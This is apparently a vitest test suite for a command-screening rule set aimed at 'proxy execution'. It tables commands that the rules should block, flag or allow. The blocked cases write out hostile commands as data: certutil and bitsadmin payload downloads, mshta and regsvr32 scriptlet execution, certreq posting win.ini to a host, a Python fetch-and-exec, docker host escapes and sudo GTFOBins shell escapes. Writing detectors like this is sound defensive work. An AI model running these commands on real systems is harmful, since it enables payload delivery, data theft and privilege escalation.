import { describe, expect, it } from 'vitest';
import { proxyExecutionRules } from './proxy-execution';
import { run, ruleIds, spansValid, verdict } from './family-test-support';
import type { Shell } from '../types';

const blocked: Array<[string, Shell, string]> = [
  ['certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe', 'cmd', 'proxy.certutil.download'],
  ['certutil.exe -urlcache -split -f %U% C:\\t\\a.exe', 'cmd', 'proxy.certutil.download'],
  ['C:\\Windows\\System32\\certutil.exe /urlcache /f http://203.0.113.5/a a', 'cmd', 'proxy.certutil.download'],
  ['CERTUTIL.EXE -VerifyCtl -split -f https://example.net/x', 'cmd', 'proxy.certutil.download'],
  ['c^e^r^t^u^t^i^l -urlcache -f http://x.test/a a', 'cmd', 'proxy.certutil.download'],
  ['"certutil" \u2013urlcache -f http://x.test/a a', 'cmd', 'proxy.certutil.download'],
  ['certutil -decode payload.txt payload.exe', 'cmd', 'proxy.certutil.decode'],
  ['c`ertutil -decode p.txt p.exe', 'powershell', 'proxy.certutil.decode'],
  ['bitsadmin /transfer job /download /priority high http://x.test/a %temp%\\a.exe', 'cmd', 'proxy.bitsadmin.transfer'],
  ['mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")', 'cmd', 'proxy.mshta'],
  ['mshta.exe http://x.test/a.hta', 'cmd', 'proxy.mshta'],
  ['regsvr32 /s /n /u /i:http://x.test/a.sct scrobj.dll', 'cmd', 'proxy.regsvr32.scriptlet'],
  ['regsvr32.exe /s %temp%\\image.jpg', 'cmd', 'proxy.regsvr32.disguised'],
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'cmd', 'proxy.rundll32.script'],
  ['rundll32 url.dll,FileProtocolHandler calc.exe', 'cmd', 'proxy.rundll32.export'],
  ['rundll32.exe zipfldr.dll,RouteTheCall calc.exe', 'powershell', 'proxy.rundll32.export'],
  ['rundll32.exe C:\\Users\\Public\\pic.png,StartW', 'cmd', 'proxy.rundll32.disguised'],
  ['msxsl.exe customers.xml script.xsl', 'cmd', 'proxy.msxsl'],
  ['odbcconf /a {REGSVR C:\\t\\x.dll}', 'cmd', 'proxy.odbcconf'],
  // In PowerShell the braces are a script block, which a native program receives as its text.
  ['odbcconf /a {REGSVR C:\\t\\x.dll}', 'powershell', 'proxy.odbcconf'],
  ['odbcconf.exe /S /A {installdriver "x|Driver=C:\\Users\\Public\\d.dll"}', 'powershell', 'proxy.odbcconf'],
  ["powershell -c 'odbcconf.exe /a {REGSVR C:\\Users\\Public\\p.dll}'", 'powershell', 'proxy.odbcconf'],
  ["iex 'odbcconf /a {REGSVR C:\\t\\x.dll}'", 'powershell', 'proxy.odbcconf'],
  // A block comment between the call operator and a quoted path does not make the path a string statement.
  [
    '& <#x#> "C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -DownloadFile -url https://f.example.org/p.exe -path C:\\t\\p.exe',
    'powershell',
    'proxy.mpcmdrun.download',
  ],
  ['wsl -e /mnt/c/Users/Public/.cache/agent', 'cmd', 'proxy.wsl.windows-program'],
  ['wsl.exe -d Ubuntu -u root --exec /mnt/c/Windows/System32/calc.exe', 'powershell', 'proxy.wsl.windows-program'],
  ['wsl /mnt/d/tools/run.sh', 'cmd', 'proxy.wsl.windows-program'],
  // GTFOBins docker: a container holding the host's root or processes runs a shell on the host.
  ['docker run --rm -it --privileged --pid=host -v /:/host alpine chroot /host /bin/bash', 'bash', 'proxy.container.host-escape'],
  ['docker -H unix:///var/run/docker.sock run -v /:/mnt --rm -it ubuntu chroot /mnt sh', 'bash', 'proxy.container.host-escape'],
  ['docker run --rm --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i sh', 'bash', 'proxy.container.host-escape'],
  ['podman run --mount type=bind,source=/,target=/h -it fedora bash', 'bash', 'proxy.container.host-escape'],
  ['cmstp.exe /ni /s C:\\Users\\Public\\corp.inf', 'cmd', 'proxy.cmstp.staged'],
  ['cmstp /s "%TEMP%\\vpn.inf"', 'cmd', 'proxy.cmstp.staged'],
  [
    'C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U payload.dll',
    'cmd',
    'proxy.installutil',
  ],
  ['regasm.exe /U payload.dll', 'cmd', 'proxy.regasm'],
  ['cmstp.exe /s C:\\t\\x.inf /au', 'cmd', 'proxy.cmstp.uac-bypass'],
  ['msbuild.exe C:\\t\\inline.xml', 'cmd', 'proxy.msbuild.inline'],
  ['wmic process call create "cmd /c calc.exe"', 'cmd', 'proxy.wmic.process-create'],
  ['wmic os get /format:"https://x.test/evil.xsl"', 'cmd', 'proxy.wmic.xsl'],
  ['forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe', 'cmd', 'proxy.forfiles'],
  ['pcalua.exe -a payload.exe', 'cmd', 'proxy.pcalua'],
  ['MpCmdRun.exe -DownloadFile -url https://x.test/a -path C:\\t\\a', 'cmd', 'proxy.mpcmdrun.download'],
  ['certreq -Post -config https://x.test/ c:\\windows\\win.ini out.txt', 'cmd', 'proxy.certreq.post'],
  ['desktopimgdownldr.exe /lockscreenurl:https://x.test/a.exe /eventName:x', 'cmd', 'proxy.desktopimgdownldr'],
  ['hh.exe https://x.test/help.chm', 'cmd', 'proxy.hh.remote'],
  ['msiexec /y C:\\t\\payload.dll', 'cmd', 'proxy.msiexec.dll'],
  [
    'cscript //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs localhost "script:https://x.test/a.sct"',
    'cmd',
    'proxy.pubprn',
  ],
  [
    '[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.5")).Document.ActiveView.ExecuteShellCommand("cmd",$null,"/c calc","7")',
    'powershell',
    'proxy.dcom.exec',
  ],
  [
    'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://x.test/a.py\').read())"',
    'bash',
    'proxy.interpreter.fetch-exec',
  ],
  // GTFOBins escapes into an interactive shell, or run under sudo (a root shell).
  ['find . -exec /bin/sh \\; -quit', 'bash', 'proxy.gtfobins.find-shell'],
  ['awk \'BEGIN {system("/bin/sh")}\'', 'bash', 'proxy.gtfobins.awk-shell'],
  ["sudo vim -c ':!/bin/sh'", 'bash', 'proxy.gtfobins.vim-shell'],
  ["vim -c ':shell'", 'bash', 'proxy.gtfobins.vim-shell'],
  ['tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh', 'bash', 'proxy.gtfobins.tar-exec'],
  ['sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/tmp/x.sh', 'bash', 'proxy.gtfobins.tar-exec'],
  // An interactive shell spawned from interpreter code.
  ['python3 -c \'import os; os.setuid(0); os.system("/bin/sh")\'', 'bash', 'proxy.gtfobins.interpreter-shell'],
  ['python -c "import pty;pty.spawn(\'/bin/bash\')"', 'bash', 'proxy.gtfobins.interpreter-shell'],
  ['perl -e \'exec "/bin/sh";\'', 'bash', 'proxy.gtfobins.interpreter-shell'],
  ['ruby -e \'exec "/bin/sh -p"\'', 'sh', 'proxy.gtfobins.interpreter-shell'],
  // Options that run a shell: zip -TT, gdb -ex, rsync -e.
  ["zip /tmp/x.zip /etc/hosts -T -TT 'sh #'", 'bash', 'proxy.gtfobins.zip-shell'],
  ["gdb -nx -ex '!sh' -ex quit", 'bash', 'proxy.gtfobins.gdb-shell'],
  ['rsync -e \'sh -c "sh 0<&2 1>&2"\' 127.0.0.1:/dev/null', 'bash', 'proxy.gtfobins.rsync-shell'],
];

const flagged: Array<[string, Shell, string]> = [
  // The same escapes running some other command, without sudo.
  ["vim -c ':!make' main.c", 'bash', 'proxy.gtfobins.vim-shell'],
  ['tar -cf backup.tar /srv/data --checkpoint=1000 --checkpoint-action=exec=/usr/local/bin/progress', 'bash', 'proxy.gtfobins.tar-exec'],
  ['osascript -e \'do shell script "id" with administrator privileges\'', 'zsh', 'proxy.osascript.shell'],
  ['osascript -l JavaScript -e \'ObjC.import("stdlib"); $.system("id")\'', 'zsh', 'proxy.osascript.shell'],
  [
    'osascript -l JavaScript -e \'ObjC.import("Foundation"); var t = $.NSTask.alloc.init; t.launchPath = "/bin/sh"; t.launch\'',
    'zsh',
    'proxy.osascript.shell',
  ],
];

// Ordinary uses of the same binaries.
const allowed: Array<[string, Shell]> = [
  ['python3 -c \'import os; os.system("ls -la /tmp")\'', 'bash'],
  ['python3 -c \'print("sh")\'', 'bash'],
  ["rsync -avz -e 'ssh -p 2222' /srv/data backup:/srv/", 'bash'],
  ['gdb -ex run --args ./app', 'bash'],
  ['perl -e \'print "ecosystem\\n"\'', 'bash'],
  ['certutil -hashfile C:\\Support\\setup.exe SHA256', 'cmd'],
  ['certutil -urlcache *', 'cmd'],
  ['certutil -urlcache * delete', 'cmd'],
  ['certutil -store my', 'cmd'],
  ['regsvr32 /s C:\\Program Files\\Vendor\\control.ocx', 'cmd'],
  ['rundll32.exe printui.dll,PrintUIEntry /il', 'cmd'],
  ['msbuild MyApp.sln /p:Configuration=Release /flp:logfile=build.log', 'cmd'],
  ['msiexec /i C:\\Support\\agent.msi /qn', 'cmd'],
  ['wmic os get caption /format:list', 'cmd'],
  ['forfiles /p C:\\logs /s /m *.log /d -30 /c "cmd /c del @path"', 'cmd'],
  ['forfiles /c "ipconfig /all"', 'cmd'],
  ['find /var/log -name "*.gz" -exec rm {} \\;', 'bash'],
  ['osascript -e \'display notification "done"\'', 'zsh'],
  ['osascript -l JavaScript -e \'Application("System Events").processes.name()\'', 'zsh'],
  ['odbcconf /q /a {CONFIGDSN "SQL Server" "DSN=Sales;Server=db01"}', 'powershell'],
  ['wsl -l -v', 'cmd'],
  ['wsl -e ls -la /mnt/c/Users', 'cmd'],
  ['wsl --exec /usr/bin/apt-get update', 'powershell'],
  ['wsl explorer.exe .', 'cmd'],
  ['docker run -d --net=host --pid=host -v "/:/host:ro,rslave" quay.io/prometheus/node-exporter --path.rootfs=/host', 'bash'],
  ['docker run --rm -v /:/host:ro alpine sh -c "du -sh /host/var"', 'bash'],
  ['docker run --rm -it -v /srv/app:/app node:20 bash', 'bash'],
  ['cmstp.exe /s "C:\\Program Files\\Contoso VPN\\corp.inf"', 'cmd'],
  ['python3 -c "import urllib.request;print(urllib.request.urlopen(\'https://example.com\').status)"', 'bash'],
  ['Get-Help Invoke-Expression', 'powershell'],
];

describe('proxy execution', () => {
  it.each(blocked)('blocks %s', (text, shell, id) => {
    const f = run(proxyExecutionRules, text, shell);
    expect(ruleIds(f)).toContain(id);
    expect(verdict(f)).toBe('block');
    expect(f.find((x) => x.ruleId === id)!.extended).toBe('flag');
    expect(f.every((x) => x.code === 'proxy_execution' && x.remedy)).toBe(true);
    expect(spansValid(f, text)).toBe(true);
  });
  it.each(flagged)('flags %s', (text, shell, id) => {
    const f = run(proxyExecutionRules, text, shell, shell === 'zsh' ? 'macos' : 'linux');
    expect(ruleIds(f)).toContain(id);
    expect(verdict(f)).toBe('flag');
  });
  it.each(allowed)('allows %s', (text, shell) => {
    expect(run(proxyExecutionRules, text, shell)).toEqual([]);
  });
  it('highlights the command word and the decisive argument', () => {
    const text = 'certutil -urlcache -f http://x.test/a a';
    const [f] = run(proxyExecutionRules, text, 'cmd');
    expect(f!.spans.map((s) => text.slice(s.start, s.end))).toEqual(['certutil', '-urlcache']);
  });
});
